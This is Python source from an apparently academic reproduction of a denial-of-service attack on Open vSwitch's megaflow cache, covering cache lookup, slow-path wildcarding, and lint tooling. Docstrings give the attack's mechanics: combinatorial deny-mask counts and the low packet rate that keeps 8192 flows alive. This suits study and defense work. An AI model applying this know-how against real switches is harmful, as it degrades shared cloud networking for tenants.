        the per-key work while hit-heavy steady states scan whole runs
        in one chunk.  As with
        :meth:`process`, a stale ``now`` is clamped to the monotonic
        clock.

        ``materialize=False`` selects the aggregate-only result mode:
        cache state, stats and every :class:`BatchResult` counter are
        bit-identical to the default, but no :class:`PacketResult`
        objects are built and ``results`` stays empty — callers that
        only consume the sums (cost charging, the parallel runtime's
        wire format) skip the per-packet object churn.
        """
        now = self._advance(now)
        self.revalidator.maybe_sweep(now)
        batch = BatchResult()
        run: list[FlowKey] = []
        run_set: set[FlowKey] = set()
        for key in keys:
            if run and (key in run_set or self.microflow.contains(key)):
                # this key's EMC lookup does not commute with the run's
                # pending inserts: flush first, then look it up at its
                # true sequential point
                self._flush_run(run, run_set, batch, now, materialize)
            self.stats.packets += 1
            entry = self.microflow.lookup(key, now)
            if entry is not None:
                self._finish_microflow_hit(entry, now, batch, materialize)
            else:
                run.append(key)
                run_set.add(key)
        if run:
            self._flush_run(run, run_set, batch, now, materialize)
        return batch

    def _flush_run(self, run: list[FlowKey], run_set: set[FlowKey],
                   batch: BatchResult, now: float,
                   materialize: bool = True) -> None:
        """Drain a run of EMC-missed keys through the TSS in bucketed
        chunks, falling back to chunk-of-one around upcalls.  The chunk
        window carries over between runs: every chunk is validated by
        the prefix contract regardless of its size, so the ramp is a
        pure cost heuristic — misses shrink it, clean chunks grow it."""
        start = 0
        window = self._batch_window
        n = len(run)
        while start < n:
            chunk = run[start:start + window]
            results = self.megaflow.lookup_batch(chunk, now)
            clean = True
            for key, tss_result in zip(chunk, results):
                if tss_result.hit:
                    self._finish_megaflow_hit(key, tss_result, now, batch,
                                              materialize)
                else:
                    self._finish_upcall(key, tss_result, now, batch,
                                        materialize)
                    clean = False
            start += len(results)
            if not clean:
                window = 1  # the upcall mutated the TSS: re-probe small
            elif len(results) == len(chunk):
                window = min(window * 2, self.MAX_BATCH_WINDOW)
        self._batch_window = window
        run.clear()
        run_set.clear()

    def _finish_microflow_hit(self, entry: MegaflowEntry, now: float,
                              batch: BatchResult,
                              materialize: bool = True) -> None:
        entry.touch(now)
        self.stats.emc_hits += 1
        forwarded = entry.action.is_forwarding()
        if forwarded:
            self.stats.forwarded += 1
        else:
            self.stats.drops += 1
        if materialize:
            batch.add(PacketResult(
                action=entry.action,
                path=LookupPath.MICROFLOW,
                tuples_scanned=0,
                hash_probes=0,
                entry=entry,
            ))
        else:
            batch.tally(LookupPath.MICROFLOW, forwarded)

    def _note_emc_insert(self, key: FlowKey) -> None:
        """Hook: a key was just *stored* in the microflow cache.  The
        base pipeline needs no bookkeeping; the columnar engine overlays
        the key onto its membership mirror so the next batched EMC probe
        stays a superset of the live cache."""

    def _finish_megaflow_hit(self, key: FlowKey, tss_result, now: float,
                             batch: BatchResult,
                             materialize: bool = True) -> None:
        megaflow_entry: MegaflowEntry = tss_result.entry  # type: ignore[assignment]
        if self.microflow.insert(key, megaflow_entry, now):
            self._note_emc_insert(key)
        self.stats.megaflow_hits += 1
        self.stats.record_scan(tss_result.tuples_scanned, tss_result.hash_probes)
        forwarded = megaflow_entry.action.is_forwarding()
        if forwarded:
            self.stats.forwarded += 1
        else:
            self.stats.drops += 1
        if materialize:
            batch.add(PacketResult(
                action=megaflow_entry.action,
                path=LookupPath.MEGAFLOW,
                tuples_scanned=tss_result.tuples_scanned,
                hash_probes=tss_result.hash_probes,
                entry=megaflow_entry,
            ))
        else:
            batch.tally(LookupPath.MEGAFLOW, forwarded,
                        tss_result.tuples_scanned, tss_result.hash_probes)

    def _finish_upcall(self, key: FlowKey, tss_result, now: float,
                       batch: BatchResult, materialize: bool = True) -> None:
        upcall = self.slow_path.handle(key, now)
        if upcall.installed is not None:
            if self.microflow.insert(key, upcall.installed, now):
                self._note_emc_insert(key)
            batch.installed.append((key, upcall.installed))
        self.stats.upcalls += 1
        if upcall.install_skipped is not None:
            self.stats.upcalls_rejected += 1
        self.stats.record_scan(tss_result.tuples_scanned, tss_result.hash_probes)
        forwarded = upcall.action.is_forwarding()
        if forwarded:
            self.stats.forwarded += 1
        else:
            self.stats.drops += 1
        if materialize:
            batch.add(PacketResult(
                action=upcall.action,
                path=LookupPath.UPCALL,
                tuples_scanned=tss_result.tuples_scanned,
                hash_probes=tss_result.hash_probes,
                entry=upcall.installed,
                install_skipped=upcall.install_skipped is not None,
            ))
        else:
            batch.tally(LookupPath.UPCALL, forwarded,
                        tss_result.tuples_scanned, tss_result.hash_probes)

    def handle_miss(self, key: FlowKey, now: float = 0.0) -> MegaflowEntry | None:
        """Slow-path shortcut for a *known* cache miss: classify and
        install without the (mutation-free) TSS miss scan.  Returns the
        installed megaflow, or ``None`` when a guard or the flow limit
        vetoed caching.  Part of the :class:`~repro.scenario.datapath.
        Datapath` protocol — replay harnesses use it to load covert
        streams without paying the quadratic scan bill in Python."""
        return self.slow_path.handle(key, now).installed

    # -- observability -----------------------------------------------------

    #: this backend keeps attacker-pollutable flow caches (the cacheless
    #: backend reports False and is costed per-classification instead)
    has_flow_cache = True

    @property
    def mask_count(self) -> int:
        """Distinct megaflow masks (Fig. 3's right axis)."""
        return self.megaflow.mask_count

    @property
    def megaflow_count(self) -> int:
        """Cached megaflow entries."""
        return self.megaflow.entry_count

    @property
    def staged(self) -> bool:
        """Whether the TSS uses staged (multi-index) lookup."""
        return self.megaflow.tss.staged

    @property
    def scan_order(self) -> str:
        """The TSS subtable visit order (insertion / hits / ranked)."""
        return self.megaflow.tss.scan_order

    @property
    def key_mode(self) -> str:
        """The TSS hash-key representation (packed / tuple)."""
        return self.megaflow.tss.key_mode

    @property
    def tss_lookups(self) -> int:
        """TSS lookups served (megaflow hits plus miss scans) — the
        datapath-surface counter load accounting and scan-depth
        weighting read, so callers never reach into
        ``megaflow.tss`` internals."""
        return self.megaflow.tss.total_lookups

    def expected_scan_depth(self) -> float:
        """Expected subtables visited per megaflow hit under the current
        scan order and hit distribution (see
        :meth:`~repro.ovs.tss.TupleSpaceSearch.expected_scan_depth`)."""
        return self.megaflow.tss.expected_scan_depth()

    @property
    def cache_capacity(self) -> int:
        """Exact-match cache entries fronting the megaflow layer."""
        return self.microflow.capacity

    @property
    def rule_count(self) -> int:
        """Slow-path rules consulted on a full classification."""
        return len(self.table)

    @property
    def idle_timeout(self) -> float:
        """Revalidator idle timeout governing megaflow expiry."""
        return self.megaflow.idle_timeout

    def advance_clock(self, now: float) -> None:
        """Move time forward (runs due revalidator sweeps).  A stale
        ``now`` is clamped: the clock is monotonic."""
        self.revalidator.maybe_sweep(self._advance(now))

    def __repr__(self) -> str:
        return (
            f"OvsSwitch({self.name}: {len(self.table)} rules, "
            f"{self.mask_count} masks, {self.megaflow_count} megaflows)"
        )
