"""The megaflow cache: wildcard entries managed over tuple space search.

Adds lifecycle on top of :class:`~repro.ovs.tss.TupleSpaceSearch`:
installation with a flow limit, per-entry hit/idle accounting, idle
expiry (the revalidator's 10 s default), and provenance so the defense
module can attribute mask pressure to a tenant.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional, Sequence

from repro.flow.actions import Action
from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey
from repro.flow.match import FlowMatch
from repro.ovs.tss import TssLookupResult, TupleSpaceSearch

#: OVS's default datapath flow limit (ovs-vswitchd ``flow-limit``)
DEFAULT_FLOW_LIMIT = 200_000

#: OVS's default idle timeout for datapath flows, seconds
DEFAULT_IDLE_TIMEOUT = 10.0


@dataclass
class MegaflowEntry:
    """One cached megaflow: a wildcard match, its action, and bookkeeping."""

    match: FlowMatch
    action: Action
    created_at: float = 0.0
    last_used: float = 0.0
    hits: int = 0
    #: tenant whose policy's classification produced this entry
    tenant: Optional[str] = None
    #: False once evicted — lets microflow-cache references detect staleness
    alive: bool = True
    #: the TSS subtable holding this entry (set on install) — lets
    #: scan-bypassing refresh paths credit subtable hit counters
    subtable: Optional[object] = field(default=None, repr=False, compare=False)

    def touch(self, now: float) -> None:
        """Record a hit at time ``now``."""
        self.hits += 1
        self.last_used = now

    def refresh(self, now: float) -> None:
        """Record a hit that bypassed the TSS scan (the simulator's
        refresh fast path): touch the entry *and* credit the owning
        subtable's hit counters, as the real datapath's lookup would —
        this is what keeps subtable ranking honest about covert traffic
        that spreads hits across every subtable."""
        self.touch(now)
        if self.subtable is not None:
            self.subtable.credit_hit()

    def idle_for(self, now: float) -> float:
        """Seconds since the last hit (or installation)."""
        return now - self.last_used

    def __repr__(self) -> str:
        return f"MegaflowEntry({self.match!r} -> {self.action!r}, hits={self.hits})"


class CacheFullError(RuntimeError):
    """Raised when an insert exceeds the datapath flow limit."""


class MegaflowCache:
    """The wildcard flow cache of the OVS fast path."""

    def __init__(
        self,
        space: FieldSpace,
        flow_limit: int = DEFAULT_FLOW_LIMIT,
        idle_timeout: float = DEFAULT_IDLE_TIMEOUT,
        staged: bool = False,
        scan_order: str = "insertion",
        key_mode: str = "packed",
        resort_interval: int = 0,
    ) -> None:
        self.space = space
        self.flow_limit = flow_limit
        self.idle_timeout = idle_timeout
        self.tss = TupleSpaceSearch(
            space,
            staged=staged,
            scan_order=scan_order,
            key_mode=key_mode,
            resort_interval=resort_interval,
        )
        self.inserts = 0
        self.rejected_inserts = 0
        self.expired_total = 0

    # -- size --------------------------------------------------------------

    @property
    def mask_count(self) -> int:
        """Distinct wildcard masks (TSS subtables) currently cached."""
        return self.tss.mask_count

    @property
    def entry_count(self) -> int:
        """Megaflow entries currently cached."""
        return self.tss.entry_count

    # -- operations ---------------------------------------------------------

    def lookup(self, key: FlowKey, now: float = 0.0) -> TssLookupResult:
        """TSS lookup; touches the entry on hit."""
        result = self.tss.lookup(key)
        if result.entry is not None:
            entry: MegaflowEntry = result.entry  # type: ignore[assignment]
            entry.touch(now)
        return result

    def lookup_batch(self, keys: "Sequence[FlowKey]",
                     now: float = 0.0) -> list[TssLookupResult]:
        """Batched TSS lookup over a burst of keys (see
        :meth:`~repro.ovs.tss.TupleSpaceSearch.lookup_batch`): returns
        results for a prefix of ``keys`` — the leading hits plus the
        first miss — with every hit entry touched in key order, exactly
        as per-key :meth:`lookup` calls would."""
        results = self.tss.lookup_batch(keys)
        for result in results:
            if result.entry is not None:
                entry: MegaflowEntry = result.entry  # type: ignore[assignment]
                entry.touch(now)
        return results

    def insert(
        self,
        match: FlowMatch,
        action: Action,
        now: float = 0.0,
        tenant: str | None = None,
    ) -> MegaflowEntry:
        """Install a megaflow; raises :class:`CacheFullError` beyond the
        flow limit.  Re-inserting an identical (mask, key) replaces the
        old entry, as a datapath flow mod would."""
        masks = match.mask_signature()
        masked_values = match.values
        found = self.tss.find_subtable(masks)
        existing = found.entries.get(masked_values) if found is not None else None
        if existing is None and self.entry_count >= self.flow_limit:
            self.rejected_inserts += 1
            raise CacheFullError(
                f"datapath flow limit reached ({self.flow_limit} flows)"
            )
        if existing is not None:
            existing.alive = False
        subtable = self.tss.get_or_create_subtable(masks)
        entry = MegaflowEntry(
            match=match,
            action=action,
            created_at=now,
            last_used=now,
            tenant=tenant,
            subtable=subtable,
        )
        subtable.insert(masked_values, entry)
        self.inserts += 1
        return entry

    def resort_subtables(self) -> None:
        """Re-rank the TSS subtable order by recent hits (no-op unless
        ``scan_order="ranked"``) — the revalidator sweep's hook."""
        self.tss.resort()

    def remove_entry(self, entry: MegaflowEntry) -> None:
        """Evict one entry."""
        entry.alive = False
        self.tss.remove(entry.match.mask_signature(), entry.match.values)

    def expire_idle(self, now: float) -> int:
        """Evict entries idle for longer than the timeout; returns the
        eviction count.  This is what forces the attacker to keep the
        covert stream flowing (and why 1–2 Mbps suffices: refreshing
        8192 flows within 10 s needs only ~820 pps)."""
        def is_idle(entry: object) -> bool:
            megaflow: MegaflowEntry = entry  # type: ignore[assignment]
            if megaflow.idle_for(now) > self.idle_timeout:
                megaflow.alive = False
                return True
            return False

        removed = self.tss.remove_if(is_idle)
        self.expired_total += removed
        return removed

    def evict_tenant(self, tenant: str) -> int:
        """Evict every entry attributed to a tenant (a defense action)."""
        def owned(entry: object) -> bool:
            megaflow: MegaflowEntry = entry  # type: ignore[assignment]
            if megaflow.tenant == tenant:
                megaflow.alive = False
                return True
            return False

        return self.tss.remove_if(owned)

    def entries(self) -> list[MegaflowEntry]:
        """All live entries (copy)."""
        return [entry for _m, _v, entry in self.tss.iter_entries()]  # type: ignore[misc]

    def flush(self) -> None:
        """Drop the whole cache (``ovs-dpctl del-flows``)."""
        for entry in self.entries():
            entry.alive = False
        self.tss.clear()

    def __repr__(self) -> str:
        return (
            f"MegaflowCache({self.mask_count} masks, {self.entry_count}/"
            f"{self.flow_limit} entries)"
        )
