"""Slow-path classification with megaflow generation.

This module is the algorithmic core of the reproduction: it implements
the OVS strategy the paper describes as "OVS in particular tries to
wildcard as many bits as possible to get the broadest possible rules",
and it is calibrated to reproduce Fig. 2b *bit-exactly* and the paper's
mask counts (8 / 512 / 8192) *combinatorially exactly*.

Model
-----
The slow path looks a packet up in the flow table in (priority desc,
insertion asc) order.  While doing so it tracks, per header field, how
many most-significant bits of the packet's value it had to examine —
OVS's prefix-trie / staged-lookup machinery makes this prefix-shaped per
field.  The rules are:

* For every rule *examined* (all rules up to and including the winner),
  constrained fields are checked in the canonical field order.
* A field the packet **satisfies** must be confirmed over the rule's
  whole mask: the prefix covering every set mask bit is un-wildcarded
  (for the exact-match allow rules of the paper's ACLs this is the full
  field).
* The first field the packet **fails** contributes a *witness*: the
  prefix up to and including the first differing bit inside the rule's
  mask.  Checking stops there for that rule — later fields of a
  mismatched rule are not examined and contribute nothing.
* ``always_exact`` metadata fields (``in_port``) are materialised fully
  whenever any examined rule constrains them.

The resulting megaflow is the packet's values masked to those per-field
prefixes.  Two consequences matter for the attack:

* a single-field exact allow rule over a ``w``-bit field yields exactly
  ``w`` distinct deny masks (prefix lengths 1..w) — Fig. 2b's 8 rows;
* rules on *different* fields are witnessed independently, so a packet
  denied by ``k`` single-field allow rules gets a mask combining one
  witness prefix per field — the reachable deny-mask space is the
  *product* of the fields' widths: 32 × 16 = 512 for ip_src + tp_dst,
  32 × 16 × 16 = 8192 with tp_src (the paper's headline counts).

Correctness invariant (property-tested): every packet that matches a
generated megaflow receives the same winning rule as a full slow-path
lookup would give it.  Sketch: a packet agreeing with the original on
every un-wildcarded prefix agrees on every confirmed field (so still
matches the rules the original matched) and agrees up to each witness
bit (so still fails the rules the original failed, at the same field).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.flow.fields import FieldSpace
from repro.flow.key import FlowKey
from repro.flow.match import FlowMatch
from repro.flow.rule import FlowRule
from repro.flow.table import FlowTable
from repro.util.bits import first_diff_bit, mask_of_prefix


def prefix_cover_len(mask: int, width: int) -> int:
    """The shortest prefix length covering every set bit of ``mask``.

    For the CIDR-style masks the CMS compilers emit this is exactly the
    prefix length; for arbitrary masks it is a conservative cover (all
    bits down to the least significant set bit).
    """
    if mask == 0:
        return 0
    # number of trailing zero bits of the mask
    trailing = (mask & -mask).bit_length() - 1
    return width - trailing


@dataclass
class WildcardingResult:
    """Outcome of one slow-path classification.

    ``megaflow`` is the cacheable wildcard entry; ``rule`` is the winner
    (``None`` on a table miss); ``rules_examined`` counts the linear-scan
    work the slow path performed (the "exponential in the worst case"
    cost the paper cites motivates keeping this observable).
    """

    rule: FlowRule | None
    megaflow: FlowMatch
    rules_examined: int

    @property
    def prefix_lens(self) -> tuple[int, ...]:
        """Per-field un-wildcarded prefix lengths of the megaflow."""
        space = self.megaflow.space
        return tuple(
            prefix_cover_len(mask, spec.width)
            for mask, spec in zip(self.megaflow.masks, space.specs)
        )


def classify_with_wildcards(table: FlowTable, key: FlowKey) -> WildcardingResult:
    """Classify ``key`` against ``table`` and build the broadest megaflow
    that preserves the classification decision (see module docstring)."""
    space: FieldSpace = table.space
    field_count = len(space)
    prefix_lens = [0] * field_count

    winner: FlowRule | None = None
    examined = 0
    for rule in table:
        examined += 1
        matched = _examine_rule(rule, key, prefix_lens, space)
        if matched:
            winner = rule
            break

    masks = tuple(
        mask_of_prefix(prefix_lens[i], space.specs[i].width)
        for i in range(field_count)
    )
    megaflow = FlowMatch.from_tuples(space, key.values, masks)
    return WildcardingResult(rule=winner, megaflow=megaflow, rules_examined=examined)


def _examine_rule(
    rule: FlowRule,
    key: FlowKey,
    prefix_lens: list[int],
    space: FieldSpace,
) -> bool:
    """Check ``rule`` field by field, accumulating un-wildcarding into
    ``prefix_lens``.  Returns True when the rule matches the key."""
    for index, spec in enumerate(space.specs):
        mask = rule.match.masks[index]
        if mask == 0:
            continue
        value = rule.match.values[index]
        key_value = key.values[index]
        if key_value & mask == value:
            # confirmed: the whole constrained prefix must appear in the
            # megaflow, else a cached packet could differ inside it
            needed = spec.width if spec.always_exact else prefix_cover_len(mask, spec.width)
            if needed > prefix_lens[index]:
                prefix_lens[index] = needed
        else:
            # witness: the first differing bit inside the rule's mask
            # proves the mismatch; the megaflow needs the prefix up to it
            diff = first_diff_bit(key_value & mask, value, spec.width)
            assert diff is not None  # a mismatch guarantees a differing bit
            needed = spec.width if spec.always_exact else diff + 1
            if needed > prefix_lens[index]:
                prefix_lens[index] = needed
            return False
    return True


def megaflow_table_rows(
    table: FlowTable,
    keys: list[FlowKey],
) -> list[tuple[str, str, str]]:
    """Render the (key, mask, action) rows that classifying ``keys``
    would install — the exact format of the paper's Fig. 2b.

    Rows are deduplicated by (masked key, mask) and reported in the
    order first produced.  Single-field spaces render as plain binary
    strings; wider spaces join fields with ``,``.
    """
    rows: list[tuple[str, str, str]] = []
    seen: set[tuple[tuple[int, ...], tuple[int, ...]]] = set()
    for key in keys:
        result = classify_with_wildcards(table, key)
        identity = (result.megaflow.values, result.megaflow.masks)
        if identity in seen:
            continue
        seen.add(identity)
        space = table.space
        key_text = ",".join(
            spec.format(value) for spec, value in zip(space.specs, result.megaflow.values)
        )
        mask_text = ",".join(
            spec.format(mask) for spec, mask in zip(space.specs, result.megaflow.masks)
        )
        action = result.rule.action.kind if result.rule else "miss"
        rows.append((key_text, mask_text, action))
    return rows
