"""Project-level checkers: live-registry introspection.

Unlike the AST checkers these import the real registries and probe the
objects behind them — a new backend that under-implements the
:class:`~repro.scenario.datapath.Datapath` surface, or a preset whose
string keys stopped resolving, is caught here before any experiment
trips over it at runtime.
"""

from __future__ import annotations

from pathlib import Path
from typing import Iterator

from repro.analysis.core import Checker, Finding, register

__all__ = [
    "ProtocolConformanceChecker",
    "RegistryHygieneChecker",
]

#: where registry-level findings anchor (there is no single offending
#: source line; the registration site is the actionable place to look)
_BACKENDS_PATH = "src/repro/scenario/registry.py"
_PRESETS_PATH = "src/repro/scenario/presets.py"
_FLEET_PRESETS_PATH = "src/repro/fleet/presets.py"


@register
class ProtocolConformanceChecker(Checker):
    """Every registered backend must expose the full ``Datapath``
    surface — a new backend cannot silently under-implement it."""

    rule = "protocol-conformance"
    contract = ("every BACKENDS entry must build a datapath exposing the "
                "full Datapath surface (DATAPATH_SURFACE is the single "
                "source of truth)")
    scope = "BACKENDS registry (builds each backend once)"
    project_level = True

    def check_project(self, root: Path) -> Iterator[Finding]:
        from repro.flow.fields import OVS_FIELDS
        from repro.perf.factory import PROFILES
        from repro.scenario import BACKENDS, DATAPATH_SURFACE
        from repro.scenario.datapath import Datapath
        from repro.vec import HAVE_NUMPY

        profile = PROFILES.get("kernel")
        for name, builder in BACKENDS.items():
            if name in ("ovs-vec",) and not HAVE_NUMPY:
                continue  # unbuildable here; the registry rejects it loudly
            # sharded-only runtimes need >1 shard to exercise dispatch
            shards = 2 if name in ("sharded", "parallel") else 1
            datapath = None
            try:
                datapath = builder(
                    profile, OVS_FIELDS, f"lint-{name}", seed=1, shards=shards
                )
                missing = sorted(
                    member for member in DATAPATH_SURFACE
                    if not hasattr(datapath, member)
                )
                for member in missing:
                    yield self.finding(
                        None, None,
                        f"backend {name!r} "
                        f"({type(datapath).__name__}) is missing protocol "
                        f"member {member!r} — implement it or raise loudly "
                        "(silent under-implementation diverges backends)",
                        path=_BACKENDS_PATH,
                    )
                if not missing and not isinstance(datapath, Datapath):
                    yield self.finding(
                        None, None,
                        f"backend {name!r} ({type(datapath).__name__}) "
                        "fails the runtime_checkable Datapath isinstance "
                        "probe despite exposing every member",
                        path=_BACKENDS_PATH,
                    )
            except Exception as exc:  # noqa: BLE001 - report, don't crash
                yield self.finding(
                    None, None,
                    f"backend {name!r} could not be built for the "
                    f"conformance probe: {type(exc).__name__}: {exc}",
                    path=_BACKENDS_PATH,
                )
            finally:
                close = getattr(datapath, "close", None)
                if close is not None:
                    close()


@register
class RegistryHygieneChecker(Checker):
    """Registered presets must name only resolvable registry keys and
    survive the dict round-trip (the CLI/JSON contract)."""

    rule = "registry-hygiene"
    contract = ("every SCENARIOS/FLEETS preset's string keys (surface, "
                "profile, backend, defenses, mobility) resolve, and "
                "from_dict(to_dict(spec)) == spec")
    scope = "SCENARIOS + FLEETS registries"
    project_level = True

    def check_project(self, root: Path) -> Iterator[Finding]:
        yield from self._check_scenarios()
        yield from self._check_fleets()

    def _check_scenarios(self) -> Iterator[Finding]:
        from repro.scenario import (
            BACKENDS,
            DEFENSES,
            PROFILES,
            SCENARIOS,
            SURFACES,
        )
        from repro.scenario.spec import DefenseUse, ScenarioSpec

        for name, spec in SCENARIOS.items():
            for axis, registry in (("surface", SURFACES),
                                   ("profile", PROFILES),
                                   ("backend", BACKENDS)):
                key = getattr(spec, axis)
                if key not in registry:
                    yield self.finding(
                        None, None,
                        f"scenario {name!r}: {axis} {key!r} is not a "
                        f"registered {registry.kind} "
                        f"(choices: {registry.names()})",
                        path=_PRESETS_PATH,
                    )
            for use in spec.defenses:
                defense = DefenseUse.from_any(use)
                if defense.name not in DEFENSES:
                    yield self.finding(
                        None, None,
                        f"scenario {name!r}: defense {defense.name!r} is "
                        f"not registered (choices: {DEFENSES.names()})",
                        path=_PRESETS_PATH,
                    )
            try:
                round_tripped = ScenarioSpec.from_dict(spec.to_dict())
            except Exception as exc:  # noqa: BLE001 - report, don't crash
                yield self.finding(
                    None, None,
                    f"scenario {name!r}: to_dict/from_dict round-trip "
                    f"raised {type(exc).__name__}: {exc}",
                    path=_PRESETS_PATH,
                )
                continue
            if round_tripped != spec:
                yield self.finding(
                    None, None,
                    f"scenario {name!r}: from_dict(to_dict(spec)) != spec "
                    "— the spec is no longer pure, portable data",
                    path=_PRESETS_PATH,
                )

    def _check_fleets(self) -> Iterator[Finding]:
        from repro.fleet import FLEETS, MOBILITY
        from repro.fleet.spec import FLEET_DEFENSES, FleetSpec

        for name, spec in FLEETS.items():
            if spec.mobility not in MOBILITY:
                yield self.finding(
                    None, None,
                    f"fleet {name!r}: mobility {spec.mobility!r} is not "
                    f"registered (choices: {MOBILITY.names()})",
                    path=_FLEET_PRESETS_PATH,
                )
            if spec.fleet_defense not in FLEET_DEFENSES:
                yield self.finding(
                    None, None,
                    f"fleet {name!r}: fleet_defense {spec.fleet_defense!r} "
                    f"is unknown (choices: {sorted(FLEET_DEFENSES)})",
                    path=_FLEET_PRESETS_PATH,
                )
            try:
                round_tripped = FleetSpec.from_dict(spec.to_dict())
            except Exception as exc:  # noqa: BLE001 - report, don't crash
                yield self.finding(
                    None, None,
                    f"fleet {name!r}: to_dict/from_dict round-trip raised "
                    f"{type(exc).__name__}: {exc}",
                    path=_FLEET_PRESETS_PATH,
                )
                continue
            if round_tripped != spec:
                yield self.finding(
                    None, None,
                    f"fleet {name!r}: from_dict(to_dict(spec)) != spec — "
                    "the spec is no longer pure, portable data",
                    path=_FLEET_PRESETS_PATH,
                )
