"""The committed findings baseline: grandfathered violations.

The baseline lets the linter gate *new* violations to zero while known,
explicitly-reviewed findings ride along until someone pays them down.
Identity is the finding fingerprint ``(rule, path, message)`` — line
numbers are deliberately excluded so edits above a grandfathered
finding don't churn the file — with multiset semantics: a baseline
entry absorbs exactly one live finding per recorded count.

Lifecycle:

* ``repro lint`` — findings covered by the baseline are reported as
  baselined (exit 0); anything beyond it is new (exit 1).
* baseline entries with no matching live finding are **stale**: they
  are reported so the baseline shrinks as debt is paid, and
  ``--write-baseline`` expires them (the file always records exactly
  the current findings).
"""

from __future__ import annotations

import json
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from repro.analysis.core import Finding

__all__ = ["Baseline", "BASELINE_VERSION", "DEFAULT_BASELINE_NAME"]

BASELINE_VERSION = 1
DEFAULT_BASELINE_NAME = "LINT_BASELINE.json"

Fingerprint = tuple[str, str, str]


@dataclass
class Baseline:
    """The grandfathered-findings multiset."""

    entries: Counter = field(default_factory=Counter)

    @classmethod
    def load(cls, path: Path) -> "Baseline":
        """Read a baseline file; a missing file is an empty baseline."""
        if not path.exists():
            return cls()
        data = json.loads(path.read_text(encoding="utf-8"))
        version = data.get("version")
        if version != BASELINE_VERSION:
            raise ValueError(
                f"unsupported baseline version {version!r} in {path} "
                f"(this tool writes version {BASELINE_VERSION})"
            )
        entries: Counter = Counter()
        for item in data.get("findings", ()):
            finding = Finding.from_dict(item)
            entries[finding.fingerprint()] += int(item.get("count", 1))
        return cls(entries)

    @classmethod
    def from_findings(cls, findings: list[Finding]) -> "Baseline":
        return cls(Counter(f.fingerprint() for f in findings))

    def write(self, path: Path) -> None:
        """Write the baseline deterministically (sorted, stable keys)."""
        items = []
        for (rule, rel, message), count in sorted(self.entries.items()):
            entry = {"rule": rule, "path": rel, "message": message}
            if count != 1:
                entry["count"] = count
            items.append(entry)
        payload = {
            "version": BASELINE_VERSION,
            "tool": "repro-lint",
            "findings": items,
        }
        path.write_text(json.dumps(payload, indent=2) + "\n", encoding="utf-8")

    def partition(self, findings: list[Finding],
                  ) -> tuple[list[Finding], list[Finding], list[Fingerprint]]:
        """Split live findings into ``(new, baselined)`` and report the
        baseline entries left unmatched (``stale``)."""
        remaining = Counter(self.entries)
        new: list[Finding] = []
        baselined: list[Finding] = []
        for finding in findings:
            fingerprint = finding.fingerprint()
            if remaining[fingerprint] > 0:
                remaining[fingerprint] -= 1
                baselined.append(finding)
            else:
                new.append(finding)
        stale = sorted(
            fingerprint
            for fingerprint, count in remaining.items()
            for _ in range(count)
        )
        return new, baselined, stale
