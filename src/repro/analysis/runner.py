"""The repro-lint runner: walk, check, baseline, report.

``run_lint`` is the library entry (tests drive it directly over
fixture trees); ``main`` is the CLI entry behind ``repro lint``.

Exit codes: 0 — no non-baselined findings; 1 — new findings (or a
file that fails to parse); 2 — usage errors (unknown rule, bad
baseline).
"""

from __future__ import annotations

import argparse
import json
import sys
from dataclasses import dataclass, field
from pathlib import Path

from repro.analysis import checkers as _checkers  # noqa: F401 - registers rules
from repro.analysis import project as _project  # noqa: F401 - registers rules
from repro.analysis.baseline import DEFAULT_BASELINE_NAME, Baseline
from repro.analysis.core import CHECKERS, Checker, Finding, SourceFile
from repro.util.registry import UnknownNameError

__all__ = [
    "LintResult",
    "build_parser",
    "configure_parser",
    "execute",
    "main",
    "run_lint",
]

#: the JSON report schema version (CI artifacts parse this)
REPORT_VERSION = 1


@dataclass
class LintResult:
    """Everything one lint invocation produced."""

    root: Path
    checked_files: int
    rules: list[str]
    findings: list[Finding] = field(default_factory=list)
    new: list[Finding] = field(default_factory=list)
    baselined: list[Finding] = field(default_factory=list)
    stale: list[tuple[str, str, str]] = field(default_factory=list)
    suppressed: int = 0
    errors: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not self.new and not self.errors

    def to_dict(self) -> dict:
        """The stable ``--format json`` shape."""
        return {
            "version": REPORT_VERSION,
            "tool": "repro-lint",
            "root": str(self.root),
            "checked_files": self.checked_files,
            "rules": list(self.rules),
            "summary": {
                "findings": len(self.findings),
                "new": len(self.new),
                "baselined": len(self.baselined),
                "suppressed": self.suppressed,
                "stale_baseline": len(self.stale),
                "errors": len(self.errors),
                "ok": self.ok,
            },
            "findings": [f.to_dict() for f in self.findings],
            "new": [f.to_dict() for f in self.new],
            "stale_baseline": [
                {"rule": rule, "path": path, "message": message}
                for rule, path, message in self.stale
            ],
            "errors": list(self.errors),
        }

    def render(self) -> str:
        """The human report."""
        lines: list[str] = []
        for finding in self.new:
            lines.append(finding.format())
        for error in self.errors:
            lines.append(f"error: {error}")
        if self.stale:
            lines.append("")
            lines.append(
                f"{len(self.stale)} stale baseline entr"
                f"{'y' if len(self.stale) == 1 else 'ies'} (fixed or "
                "renamed; run --write-baseline to expire):"
            )
            for rule, path, message in self.stale:
                lines.append(f"  {path}: {rule}: {message}")
        lines.append("")
        lines.append(
            f"repro-lint: {self.checked_files} files, "
            f"{len(self.rules)} rules: "
            f"{len(self.new)} new, {len(self.baselined)} baselined, "
            f"{self.suppressed} suppressed by pragma, "
            f"{len(self.stale)} stale baseline entries"
        )
        lines.append("OK" if self.ok else "FAIL (new findings)")
        return "\n".join(lines)


def _iter_python_files(paths: list[Path]) -> list[Path]:
    files: list[Path] = []
    for path in paths:
        if path.is_dir():
            files.extend(sorted(path.rglob("*.py")))
        elif path.suffix == ".py":
            files.append(path)
    # de-duplicate while preserving order (overlapping path args)
    seen: set[Path] = set()
    unique: list[Path] = []
    for file in files:
        resolved = file.resolve()
        if resolved not in seen:
            seen.add(resolved)
            unique.append(file)
    return unique


def _rel_path(path: Path, root: Path) -> str:
    try:
        return path.resolve().relative_to(root.resolve()).as_posix()
    except ValueError:
        return path.as_posix()


def resolve_rules(rule_names: list[str] | None) -> list[Checker]:
    """The checkers to run (all registered rules by default)."""
    if not rule_names:
        return [checker for _name, checker in CHECKERS.items()]
    selected: list[Checker] = []
    for name in rule_names:
        selected.append(CHECKERS.get(name))  # raises UnknownNameError
    return selected


def run_lint(
    paths: list[Path] | None = None,
    *,
    root: Path | None = None,
    rules: list[str] | None = None,
    baseline: Baseline | None = None,
    project_checks: bool = True,
) -> LintResult:
